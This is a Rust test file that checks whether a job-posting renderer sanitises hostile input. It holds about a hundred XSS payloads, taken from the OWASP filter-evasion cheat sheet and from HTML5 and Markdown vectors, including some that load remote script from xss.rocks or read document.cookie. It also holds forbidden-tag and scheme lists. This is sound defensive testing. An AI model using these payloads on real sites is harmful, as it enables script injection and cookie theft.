//! Hostile text in role data and posting fields comes out inert in the HTML: vectors from the
//! OWASP XSS filter-evasion cheat sheet, raw HTML, `javascript:` links in Markdown and HTML,
//! event handlers. Each vector is put, alone and all together, into every text of a role and
//! every posting field, and rendered with every built-in template and a template that prints
//! everything unescaped.

use super::*;
use crate::drafts::{Draft, ItemEdit, PostingField};
use crate::model::{Item, Skill, SourceRef};
use crate::testing::{item, vp};

/// OWASP XSS Filter Evasion Cheat Sheet (one line per vector, as published), plus raw HTML,
/// Markdown links and autolinks, and newer HTML5 event-handler vectors.
const VECTORS: &[&str] = &[
    r#"<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>"#,
    r#"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(42);//'>"#,
    r#"<IMG SRC="javascript:alert('XSS');">"#,
    r#"<IMG SRC=javascript:alert('XSS')>"#,
    r#"<IMG SRC=JaVaScRiPt:alert('XSS')>"#,
    r#"<IMG SRC=javascript:alert(&quot;XSS&quot;)>"#,
    r#"<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>"#,
    r#"\<a onmouseover="alert(document.cookie)"\>xxs link\</a\>"#,
    r#"\<a onmouseover=alert(document.cookie)\>xxs link\</a\>"#,
    r#"<a onmouseover="alert(document.cookie)">xxs link</a>"#,
    r#"<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>"#,
    r#"<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"#,
    r#"<IMG SRC=# onmouseover="alert('xxs')">"#,
    r#"<IMG SRC= onmouseover="alert('xxs')">"#,
    r#"<IMG onmouseover="alert('xxs')">"#,
    r#"<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>"#,
    r#"<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">"#,
    r#"<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"#,
    r#"<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>"#,
    r#"<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>"#,
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    r#"<IMG SRC="jav&#x09;ascript:alert('XSS');">"#,
    r#"<IMG SRC="jav&#x0A;ascript:alert('XSS');">"#,
    r#"<IMG SRC="jav&#x0D;ascript:alert('XSS');">"#,
    r#"<IMG SRC=" &#14;  javascript:alert('XSS');">"#,
    r#"<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>"#,
    r#"<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<<SCRIPT>alert("XSS");//\<</SCRIPT>"#,
    r#"<SCRIPT SRC=http://xss.rocks/xss.js?< B >"#,
    r#"<SCRIPT SRC=//xss.rocks/.j>"#,
    r#"<IMG SRC="`<javascript:alert>`('XSS')""#,
    r#"<iframe src=http://xss.rocks/scriptlet.html <"#,
    r#"</TITLE><SCRIPT>alert("XSS");</SCRIPT>"#,
    r#"<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">"#,
    r#"<BODY BACKGROUND="javascript:alert('XSS')">"#,
    r#"<IMG DYNSRC="javascript:alert('XSS')">"#,
    r#"<IMG LOWSRC="javascript:alert('XSS')">"#,
    r#"<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>"#,
    r#"<IMG SRC='vbscript:msgbox("XSS")'>"#,
    r#"<IMG SRC="livescript:[code]">"#,
    r#"<svg/onload=alert('XSS')>"#,
    r#"<BODY ONLOAD=alert('XSS')>"#,
    r#"<BGSOUND SRC="javascript:alert('XSS');">"#,
    r#"<BR SIZE="&{alert('XSS')}">"#,
    r#"<LINK REL="stylesheet" HREF="javascript:alert('XSS');">"#,
    r#"<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">"#,
    r#"<STYLE>@import'http://xss.rocks/xss.css';</STYLE>"#,
    r#"<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">"#,
    r#"<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>"#,
    r#"<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>"#,
    r#"<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">"#,
    r#"<STYLE TYPE="text/javascript">alert('XSS');</STYLE>"#,
    r#"<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>"#,
    r#"<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>"#,
    r#"<XSS STYLE="behavior: url(xss.htc);">"#,
    r#"<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">"#,
    r#"<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">"#,
    r#"<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">"#,
    r#"<IFRAME SRC="javascript:alert('XSS');"></IFRAME>"#,
    r#"<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>"#,
    r#"<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>"#,
    r#"<TABLE BACKGROUND="javascript:alert('XSS')">"#,
    r#"<TABLE><TD BACKGROUND="javascript:alert('XSS')">"#,
    r#"<DIV STYLE="background-image: url(javascript:alert('XSS'))">"#,
    r#"<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">"#,
    r#"<DIV STYLE="width: expression(alert('XSS'));">"#,
    r#"<BASE HREF="javascript:alert('XSS');//">"#,
    r#"<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>"#,
    r#"<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>"#,
    r#"<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<A HREF="javascript:document.location='http://www.example.com/'">XSS</A>"#,
    r#"<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>"#,
    r#"<A HREF="//www.google.com/">XSS</A>"#,
    // Raw HTML and event handlers (HTML5).
    r#"<svg><script>alert(1)</script></svg>"#,
    r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>"#,
    r#"<details open ontoggle=alert(1)>x</details>"#,
    r#"<a href="jAvAsCrIpT&colon;alert(1)">x</a>"#,
    r#"<a href="&#106;avascript:alert(1)">x</a>"#,
    r#"<a href="  javascript:alert(1)">x</a>"#,
    r#"<form action="javascript:alert(1)"><input type=submit></form>"#,
    r#"<button formaction=javascript:alert(1)>x</button>"#,
    r#"<video><source onerror="alert(1)"></video>"#,
    r#"<object data="javascript:alert(1)"></object>"#,
    r#"<isindex action="javascript:alert(1)" type=image>"#,
    r#"<p style="background:url(javascript:alert(1))" onclick="alert(1)">p</p>"#,
    r#"<div onpointerover="alert(1)" tabindex=1 autofocus onfocus=alert(1)>d</div>"#,
    r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>"#,
    r#"<template><script>alert(1)</script></template>"#,
    r#"<!--<script>alert(1)</script>-->"#,
    r#"<![CDATA[<script>alert(1)</script>]]>"#,
    // Markdown links, images, autolinks and reference definitions.
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click]( javascript:alert(1) \"t\")",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "![img](javascript:alert(1))",
    "![img](https://tracker.example/pixel.gif)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
];

fn hostile_role(vector: &str) -> crate::model::Role {
    let mut role = vp();
    role.title = format!("VP {vector}");
    role.track = Some(vector.to_string());
    role.facts
        .insert("years_of_experience".into(), vector.to_string());
    role.facts.insert(vector.to_string(), vector.to_string());
    for section in &mut role.sections {
        section.title = format!("{} {vector}", section.title);
        section.items.push(item(vector, Some(vector)));
        section.items.push(Item {
            text: format!("before {vector} after"),
            ..item("", None)
        });
    }
    role.skills.push(Skill {
        code: vector.to_string(),
        name: vector.to_string(),
        level: Some(6),
        category: Some(vector.to_string()),
        subcategory: None,
        attainment: vec![item(vector, None)],
        description: vec![],
        reference: None,
        source: SourceRef {
            file: vector.to_string(),
            line: 1,
        },
    });
    role
}

fn hostile_draft(vector: &str, template: &str) -> Draft {
    let mut draft = Draft::new("x", "vp-of-engineering", template);
    for field in PostingField::ALL {
        draft
            .posting
            .set(field, format!("{} {vector}", field.label()));
    }
    let last = draft.posting.clone();
    draft.posting.about_company = Some(format!(
        "{}\n\n{vector}\n\n- {vector}",
        last.about_company.unwrap()
    ));
    draft.item_edits.push(ItemEdit {
        section: "responsibilities".into(),
        index: 0,
        text: vector.to_string(),
    });
    draft
}

/// One HTML tag as the sanitiser serialises it: name and (name, value) attributes.
#[derive(Debug)]
struct Tag {
    name: String,
    attrs: Vec<(String, String)>,
}

/// Scans serialised HTML for tags. html5ever (under ammonia) escapes `<` in text as `&lt;`
/// and quotes every attribute value with `"`, so this quote-aware scan sees every real tag.
fn tags(html: &str) -> Vec<Tag> {
    let mut out = Vec::new();
    let bytes = html.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'<' {
            i += 1;
            continue;
        }
        let start = i + 1;
        let mut j = start;
        let mut quote: Option<u8> = None;
        while j < bytes.len() {
            match (quote, bytes[j]) {
                (None, b'"') | (None, b'\'') => quote = Some(bytes[j]),
                (Some(q), c) if c == q => quote = None,
                (None, b'>') => break,
                _ => {}
            }
            j += 1;
        }
        out.push(parse_tag(&html[start..j.min(html.len())]));
        i = j + 1;
    }
    out
}

fn parse_tag(inner: &str) -> Tag {
    let inner = inner.trim_start_matches('/').trim_end_matches('/');
    let name_end = inner
        .find(|c: char| c.is_whitespace())
        .unwrap_or(inner.len());
    let name = inner[..name_end].to_ascii_lowercase();
    let mut attrs = Vec::new();
    let mut rest = inner[name_end..].trim_start();
    while !rest.is_empty() {
        let key_end = rest
            .find(|c: char| c == '=' || c.is_whitespace())
            .unwrap_or(rest.len());
        let key = rest[..key_end].to_ascii_lowercase();
        rest = rest[key_end..].trim_start();
        let mut value = String::new();
        if let Some(after) = rest.strip_prefix('=') {
            let after = after.trim_start();
            if let Some(q) = after.chars().next().filter(|c| *c == '"' || *c == '\'') {
                let close = after[1..].find(q).map(|p| p + 1).unwrap_or(after.len());
                value = after[1..close].to_string();
                rest = after.get(close + 1..).unwrap_or("").trim_start();
            } else {
                let end = after.find(char::is_whitespace).unwrap_or(after.len());
                value = after[..end].to_string();
                rest = after[end..].trim_start();
            }
        }
        attrs.push((key, value));
    }
    Tag { name, attrs }
}

/// Decodes the entities a sanitiser might leave in an attribute (`&amp;`, `&colon;`, numeric
/// `&#58;`/`&#x3a;` with or without `;`), then drops whitespace and control characters, as a
/// browser does when it reads a URL's scheme.
fn url_as_browser_reads_it(value: &str) -> String {
    let named = value
        .replace("&colon;", ":")
        .replace("&quot;", "\"")
        .replace("&Tab;", "\t")
        .replace("&NewLine;", "\n");
    let mut decoded = String::new();
    let mut rest = named.as_str();
    while let Some(pos) = rest.find("&#") {
        decoded.push_str(&rest[..pos]);
        let after = &rest[pos + 2..];
        let (hex, digits) = match after.strip_prefix(['x', 'X']) {
            Some(h) => (true, h),
            None => (false, after),
        };
        let len = digits
            .find(|c: char| !c.is_ascii_hexdigit() || (!hex && !c.is_ascii_digit()))
            .unwrap_or(digits.len());
        let code = u32::from_str_radix(&digits[..len], if hex { 16 } else { 10 })
            .ok()
            .and_then(char::from_u32);
        match code {
            Some(c) if len > 0 => {
                decoded.push(c);
                rest = digits[len..].strip_prefix(';').unwrap_or(&digits[len..]);
            }
            _ => {
                decoded.push_str("&#");
                rest = after;
            }
        }
    }
    decoded.push_str(rest);
    let decoded = decoded.replace("&amp;", "&");
    decoded
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase()
}

const ALLOWED_SCHEMES: [&str; 4] = ["http:", "https:", "mailto:", "tel:"];
const FORBIDDEN_TAGS: &[&str] = &[
    "script", "style", "img", "iframe", "frame", "frameset", "object", "embed", "link", "meta",
    "base", "form", "input", "button", "svg", "math", "video", "audio", "source", "bgsound",
    "isindex", "body", "html", "head", "title", "template", "noscript", "xss",
];

/// The checks every rendered body must pass.
fn assert_inert(body: &str, what: &str) {
    let lower = body.to_ascii_lowercase();
    assert!(
        !lower.contains("<script"),
        "{what}: <script survived:\n{body}"
    );
    for tag in tags(body) {
        assert!(
            !FORBIDDEN_TAGS.contains(&tag.name.as_str()),
            "{what}: <{}> survived:\n{body}",
            tag.name
        );
        for (key, value) in &tag.attrs {
            assert!(
                !key.starts_with("on"),
                "{what}: event attribute {key} survived on <{}>:\n{body}",
                tag.name
            );
            assert!(
                key != "style" && key != "background" && key != "src",
                "{what}: {key}= survived:\n{body}"
            );
            let url = url_as_browser_reads_it(value);
            assert!(
                !url.contains("javascript:")
                    && !url.contains("vbscript:")
                    && !url.contains("livescript:"),
                "{what}: a script URL survived in {key}=\"{value}\":\n{body}"
            );
            if key == "href" {
                let scheme_ok = ALLOWED_SCHEMES.iter().any(|s| url.starts_with(s));
                let relative = !url.contains(':')
                    || url
                        .find(['/', '?', '#'])
                        .is_some_and(|p| p < url.find(':').unwrap());
                assert!(
                    scheme_ok || relative,
                    "{what}: href=\"{value}\" survived:\n{body}"
                );
            }
        }
    }
}

fn body_of(document: &str) -> &str {
    let start = document.find("<main>").expect("the document has <main>") + "<main>".len();
    let end = document.rfind("</main>").expect("the document has </main>");
    &document[start..end]
}

/// The document around the body is exactly the fixed shell: one `<style>` (ours), four
/// `<meta>`, no script, and the title escaped.
fn assert_shell(document: &str, what: &str) {
    let head = &document[..document.find("<main>").unwrap()];
    let lower = head.to_ascii_lowercase();
    assert_eq!(lower.matches("<style").count(), 1, "{what}: {head}");
    assert_eq!(lower.matches("<meta").count(), 4, "{what}: {head}");
    assert_eq!(lower.matches("<title").count(), 1, "{what}: {head}");
    assert!(
        !lower.contains("<script") && !lower.contains("<link"),
        "{what}: {head}"
    );
    let title = &head[head.find("<title>").unwrap() + 7..head.find("</title>").unwrap()];
    assert!(
        !title.contains('<') && !title.contains('>'),
        "{what}: title not escaped: {title}"
    );
}

fn renderer() -> Renderer {
    let mut r = Renderer::new();
    // Prints every text of the context unescaped (triple-stash too), as a careless user might.
    r.add_template(
        "everything",
        "# {{{role.title}}} {{role.track}}\n\n{{#each role.facts}}- {{@key}}: {{{this}}}\n{{/each}}\n\
         {{#each sections}}## {{title}}\n\n{{#each items}}- {{{text}}} ({{group}})\n{{/each}}\n{{/each}}\
         {{#each role.skills}}{{name}} {{code}} {{category}} {{source.file}}\n{{/each}}\n\
         {{#with posting}}{{company}} {{team}} {{location}} {{remote_policy}} {{employment_type}} {{salary_range}}\n\n\
         {{{about_company}}}\n\n{{benefits}}\n\n{{how_to_apply}}\n\n{{equal_opportunity}}{{/with}}\n",
        TemplateOrigin::User,
    )
    .unwrap();
    r
}

#[test]
fn every_vector_comes_out_inert_in_every_template() {
    let r = renderer();
    let templates = ["full", "job-board", "levelling-summary", "everything"];
    for vector in VECTORS {
        let role = hostile_role(vector);
        for template in templates {
            let draft = hostile_draft(vector, template);
            let ctx = r
                .context(&role, &draft, Meta::at("2025-01-02", template))
                .unwrap();
            let out = r.render(template, &ctx, OutputFormat::Html).unwrap();
            let what = format!("{template} × {vector:?}");
            assert_shell(&out.text, &what);
            assert_inert(body_of(&out.text), &what);
            // The preview/paste fragment is the same sanitised HTML.
            let md = r.render_markdown(template, &ctx).unwrap();
            assert_inert(&markdown_to_html(&md), &what);
        }
    }
}

#[test]
fn all_vectors_together_come_out_inert() {
    let r = renderer();
    let all = VECTORS.join("\n");
    let role = hostile_role(&all);
    for template in ["full", "job-board", "levelling-summary", "everything"] {
        let ctx = r
            .context(
                &role,
                &hostile_draft(&all, template),
                Meta::at("2025-01-02", template),
            )
            .unwrap();
        let out = r.render(template, &ctx, OutputFormat::Html).unwrap();
        assert_shell(&out.text, template);
        assert_inert(body_of(&out.text), template);
    }
}

#[test]
fn the_scanner_catches_what_it_is_meant_to_catch() {
    // Guard the guard: unsanitised HTML fails the checks.
    for bad in [
        "<p onclick=\"x()\">a</p>",
        "<a href=\"javascript:alert(1)\">a</a>",
        "<a href=\"java&#58;script:x\">a</a>",
        "<a href=\" jav&#x09;ascript:x\">a</a>",
        "<img src=\"x\">",
        "<SCRIPT>x</SCRIPT>",
        "<a href=\"data:text/html,x\">a</a>",
        "<a href=\"&#x6A;avascript:x\">a</a>",
        "<a href=\"&#0000106avascript:x\">a</a>",
    ] {
        let caught = std::panic::catch_unwind(|| assert_inert(bad, "probe")).is_err();
        assert!(caught, "not caught: {bad}");
    }
    assert_eq!(
        url_as_browser_reads_it(" jav&#x09;a&#115;cript&#58;x&amp;y"),
        "javascript:x&y"
    );
    assert_inert("<p>a &lt;script&gt; javascript:alert(1) text</p><a href=\"https://x.example/?a=1&amp;b=2\" rel=\"noopener\">ok</a><a href=\"#top\">t</a>", "probe");
}

#[test]
fn harmless_markup_and_links_survive() {
    let html = markdown_to_html("**bold** [site](https://acme.example/jobs) [mail](mailto:jobs@acme.example)\n\n<em>fine</em>");
    assert!(html.contains("<strong>bold</strong>"), "{html}");
    assert!(
        html.contains("href=\"https://acme.example/jobs\""),
        "{html}"
    );
    assert!(html.contains("href=\"mailto:jobs@acme.example\""), "{html}");
    assert!(html.contains("<em>fine</em>"), "{html}");
}

/// The job-board fragment and the JSON-LD over every vector: only the fragment's tags, no
/// attribute at all, and nothing that could close the JSON-LD's script element.
#[test]
fn the_fragment_and_the_json_ld_hold_only_their_tags_over_every_vector() {
    use super::formats::{fragment, json_ld, FRAGMENT_TAGS};
    let r = renderer();
    for vector in VECTORS {
        let role = hostile_role(vector);
        for template in ["full", "job-board", "levelling-summary", "everything"] {
            let draft = hostile_draft(vector, template);
            let ctx = r
                .context(&role, &draft, Meta::at("2025-01-02", template))
                .unwrap();
            let md = r.render_markdown(template, &ctx).unwrap();
            let what = format!("{template} × {vector:?}");
            let html = fragment(&md);
            for tag in tags(&html) {
                assert!(
                    FRAGMENT_TAGS.contains(&tag.name.as_str()),
                    "{what}: <{}> in the fragment: {html}",
                    tag.name
                );
                assert!(tag.attrs.is_empty(), "{what}: attributes {:?}", tag.attrs);
            }
            assert_inert(&html, &what);
            let ld = json_ld(&ctx, &md).to_json();
            assert!(!ld.to_lowercase().contains("</script"), "{what}: {ld}");
            let back: serde_json::Value = serde_json::from_str(&ld).unwrap();
            assert_eq!(back["@type"], "JobPosting");
        }
    }
}
